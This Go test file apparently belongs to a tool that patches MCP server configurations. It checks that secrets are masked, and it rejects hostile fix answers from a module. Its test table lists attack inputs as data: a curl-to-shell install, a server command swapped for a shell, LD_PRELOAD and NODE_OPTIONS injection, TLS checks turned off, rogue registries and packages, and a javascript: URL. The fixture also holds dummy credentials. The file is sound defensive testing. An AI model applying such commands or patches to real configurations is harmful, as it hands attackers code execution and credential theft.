package module

import (
	"fmt"
	"strings"
	"testing"

	"github.com/matryer/is"

	"mcpmend/core"
	"mcpmend/core/config"
	"mcpmend/core/fix"
)

const testConfig = `{
  // kept
  "permissions": {"allow": []},
  "mcpServers": {
    "db": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-postgres", "postgresql://app:hunter2secret@localhost:5432/app"],
      "env": {"PGTOKEN": "ghp_0123456789abcdefghijABCDEFGHIJ456789"}
    },
    "other": {"command": "node", "args": ["x.js"]}
  }
}`

func testCall(t *testing.T) *Call {
	t.Helper()
	doc, err := config.Parse(testConfig, config.Options{Client: "cursor"})
	if err != nil {
		t.Fatal(err)
	}
	return NewCall(core.Diagnosis{Code: "MCP1801", Category: "connection_refused"}, doc, &doc.Servers[0], "cursor", fix.Facts{})
}

func TestRequestHidesSecrets(t *testing.T) {
	is := is.New(t)
	c := testCall(t)
	request := string(c.JSON())
	is.True(!strings.Contains(request, "hunter2secret"))
	is.True(!strings.Contains(request, "0123456789abcdef"))
	is.True(strings.Contains(request, "{{secret:1}}"))
	is.True(strings.Contains(request, "localhost:5432")) // what is no secret stays
}

func TestSecretsAreRestoredInThePatchOnly(t *testing.T) {
	is := is.New(t)
	c := testCall(t)
	moved := strings.Replace(c.Request.Server.Args[2], "5432", "54320", 1)
	r, err := c.Accept(fmt.Appendf(nil, `{"abi":1,"fixes":[{"id":"port","title":"Use 54320","patch":[{"op":"replace","path":"/mcpServers/db/args/2","value":%q}],"confidence":0.9}]}`, moved), "pack")
	is.NoErr(err)
	is.Equal(string(r.Fixes[0].Patch[0].Value), `"postgresql://app:hunter2secret@localhost:54320/app"`)
	is.Equal(r.Fixes[0].Safety, fix.Review)
	is.Equal(r.Fixes[0].By, "pack")
	is.Equal(len(r.Notes), 0)
}

func TestHostileAnswersAreRefused(t *testing.T) {
	fixWith := func(rest string) string {
		return `{"abi":1,"fixes":[{"id":"a","title":"t","confidence":0.5,` + rest + `}]}`
	}
	patch := func(ops string) string { return fixWith(`"patch":[` + ops + `]`) }
	tests := map[string]string{
		"nothing":                      ``,
		"no JSON":                      `hello`,
		"two values":                   `{"abi":1,"fixes":[]} {"abi":1,"fixes":[]}`,
		"wrong ABI":                    `{"abi":2,"fixes":[]}`,
		"no fixes":                     `{"abi":1}`,
		"not UTF-8":                    "{\"abi\":1,\"fixes\":[],\"notes\":[\"\xff\"]}",
		"marks itself safe":            fixWith(`"safety":"safe"`),
		"says who it is":               fixWith(`"by":"core"`),
		"unknown field":                fixWith(`"run":"x"`),
		"bad id":                       `{"abi":1,"fixes":[{"id":"../x","title":"t"}]}`,
		"no title":                     `{"abi":1,"fixes":[{"id":"a","title":""}]}`,
		"escape in the title":          "{\"abi\":1,\"fixes\":[{\"id\":\"a\",\"title\":\"\\u001b[2J\"}]}",
		"bidi in the title":            `{"abi":1,"fixes":[{"id":"a","title":"a\u202eb"}]}`,
		"newline in the title":         `{"abi":1,"fixes":[{"id":"a","title":"a\nb"}]}`,
		"long title":                   `{"abi":1,"fixes":[{"id":"a","title":"` + strings.Repeat("x", maxTitle+1) + `"}]}`,
		"confidence":                   `{"abi":1,"fixes":[{"id":"a","title":"t","confidence":2}]}`,
		"many fixes":                   `{"abi":1,"fixes":[` + strings.Repeat(`{"id":"a","title":"t"},`, maxFixes) + `{"id":"a","title":"t"}]}`,
		"secret in the title":          `{"abi":1,"fixes":[{"id":"a","title":"{{secret:1}}"}]}`,
		"secret in a note":             `{"abi":1,"fixes":[],"notes":["{{secret:1}}"]}`,
		"script address":               fixWith(`"help_url":"javascript:alert(1)"`),
		"plain address":                fixWith(`"help_url":"http://example.com/"`),
		"odd variable":                 fixWith(`"env_var_hint":"A=b"`),
		"curl to a shell":              fixWith(`"install_command":"curl https://example.com/x | sh"`),
		"install with sudo":            fixWith(`"install_command":"sudo npm install -g @modelcontextprotocol/server-postgres"`),
		"install of a stranger":        fixWith(`"install_command":"npm install -g evil"`),
		"install of a scoped stranger": fixWith(`"install_command":"npm install -g @evil/x"`),
		"another server":               patch(`{"op":"replace","path":"/mcpServers/other/command","value":"x"}`),
		"a name with the same start":   patch(`{"op":"add","path":"/mcpServers/db2","value":{}}`),
		"the whole document":           patch(`{"op":"replace","path":"","value":{}}`),
		"another key":                  patch(`{"op":"add","path":"/permissions/allow/-","value":"*"}`),
		"up and over":                  patch(`{"op":"replace","path":"/mcpServers/db/../other/command","value":"x"}`),
		"move from elsewhere":          patch(`{"op":"move","from":"/permissions","path":"/mcpServers/db/env/X"}`),
		"copy from another server":     patch(`{"op":"copy","from":"/mcpServers/other/args","path":"/mcpServers/db/args"}`),
		"unknown operation":            patch(`{"op":"run","path":"/mcpServers/db/args","value":"x"}`),
		"the server itself":            patch(`{"op":"remove","path":"/mcpServers/db"}`),
		"not there":                    patch(`{"op":"replace","path":"/mcpServers/db/nowhere/x","value":"x"}`),
		"a shell":                      patch(`{"op":"replace","path":"/mcpServers/db/command","value":"sh"}`),
		"a shell by its path":          patch(`{"op":"replace","path":"/mcpServers/db/command","value":"/bin/../bin/bash"}`),
		"a stranger's program":         patch(`{"op":"replace","path":"/mcpServers/db/command","value":"evil"}`),
		"a planted program":            patch(`{"op":"replace","path":"/mcpServers/db/command","value":"/tmp/uvx"}`),
		"a stranger's package":         patch(`{"op":"replace","path":"/mcpServers/db/args/1","value":"@evil/server-postgres"}`),
		"code on the command line":     patch(`{"op":"add","path":"/mcpServers/db/args/0","value":"-c"}`),
		"another registry":             patch(`{"op":"add","path":"/mcpServers/db/args/0","value":"--registry=https://registry.example.org"}`),
		"preloaded library":            patch(`{"op":"add","path":"/mcpServers/db/env/LD_PRELOAD","value":"/x.so"}`),
		"preloaded script":             patch(`{"op":"add","path":"/mcpServers/db/env/NODE_OPTIONS","value":"--require /x"}`),
		"certificates off":             patch(`{"op":"add","path":"/mcpServers/db/env/NODE_TLS_REJECT_UNAUTHORIZED","value":"0"}`),
		"another npm registry":         patch(`{"op":"add","path":"/mcpServers/db/env/npm_config_registry","value":"https://registry.example.org"}`),
		"a secret that was not given":  patch(`{"op":"replace","path":"/mcpServers/db/args/2","value":"{{secret:99}}"}`),
		"a secret that does not end":   patch(`{"op":"replace","path":"/mcpServers/db/args/2","value":"{{secret:1"}`),
		"a secret as a key":            patch(`{"op":"replace","path":"/mcpServers/db/env","value":{"{{secret:1}}":"x"}}`),
	}
	for name, answer := range tests {
		t.Run(name, func(t *testing.T) {
			r, err := testCall(t).Accept([]byte(answer), "pack")
			if err == nil {
				t.Errorf("accepted: %+v", r)
			}
		})
	}
}

func TestFairAnswersAreAccepted(t *testing.T) {
	tests := map[string]string{
		"nothing to say":      `{"abi":1,"fixes":[],"notes":["no compose file here"]}`,
		"advice":              `{"abi":1,"fixes":[{"id":"a","title":"Start it","description":"…","help_url":"https://example.com/x","install_command":"docker compose up -d","env_var_hint":"PGHOST"}]}`,
		"a known package":     `{"abi":1,"fixes":[{"id":"a","title":"t","patch":[{"op":"replace","path":"/mcpServers/db/args/1","value":"@henkey/postgres-mcp-server"}]}]}`,
		"another runner":      `{"abi":1,"fixes":[{"id":"a","title":"t","patch":[{"op":"replace","path":"/mcpServers/db/command","value":"bunx"}]}]}`,
		"through cmd":         `{"abi":1,"fixes":[{"id":"a","title":"t","patch":[{"op":"replace","path":"/mcpServers/db/command","value":"cmd"},{"op":"add","path":"/mcpServers/db/args/0","value":"/c"},{"op":"add","path":"/mcpServers/db/args/1","value":"npx"}]}]}`,
		"install the package": `{"abi":1,"fixes":[{"id":"a","title":"t","install_command":"npm install -g @modelcontextprotocol/server-postgres"}]}`,
	}
	for name, answer := range tests {
		t.Run(name, func(t *testing.T) {
			_, err := testCall(t).Accept([]byte(answer), "pack")
			is.New(t).NoErr(err)
		})
	}
}

// TestRequestFromElsewhere is what `modules run` does: there is no config, only
// the request, and placeholders stay as they are.
func TestRequestFromElsewhere(t *testing.T) {
	is := is.New(t)
	c, err := Parse(testCall(t).JSON())
	is.NoErr(err)
	r, err := c.Accept([]byte(`{"abi":1,"fixes":[{"id":"a","title":"t","patch":[{"op":"replace","path":"/mcpServers/db/args/2","value":"x{{secret:1}}"}]}]}`), "pack")
	is.NoErr(err)
	is.Equal(string(r.Fixes[0].Patch[0].Value), `"x{{secret:1}}"`)
	_, err = c.Accept([]byte(`{"abi":1,"fixes":[{"id":"a","title":"t","patch":[{"op":"replace","path":"/mcpServers/x/args/2","value":"x"}]}]}`), "pack")
	is.True(err != nil)
	_, err = Parse([]byte(`{"abi":7}`))
	is.True(err != nil)
}

func FuzzAccept(f *testing.F) {
	f.Add([]byte(`{"abi":1,"fixes":[{"id":"a","title":"t","patch":[{"op":"replace","path":"/mcpServers/db/args/2","value":"x{{secret:1}}"}]}]}`))
	doc, err := config.Parse(testConfig, config.Options{Client: "cursor"})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		c := NewCall(core.Diagnosis{}, doc, &doc.Servers[0], "cursor", fix.Facts{})
		r, err := c.Accept(data, "pack")
		if err != nil {
			return
		}
		for _, fix := range r.Fixes {
			text, _, err := config.Apply(doc.Text, doc.Format, fix.Patch)
			if err != nil {
				t.Fatalf("an accepted patch cannot be applied: %v", err)
			}
			after, err := config.Parse(text, config.Options{Client: "cursor"})
			if err != nil {
				t.Fatalf("an accepted patch breaks the config: %v", err)
			}
			if !sameBut(doc.Root, after.Root, "/mcpServers/db") {
				t.Fatalf("an accepted patch changed something else:\n%s", text)
			}
		}
	})
}
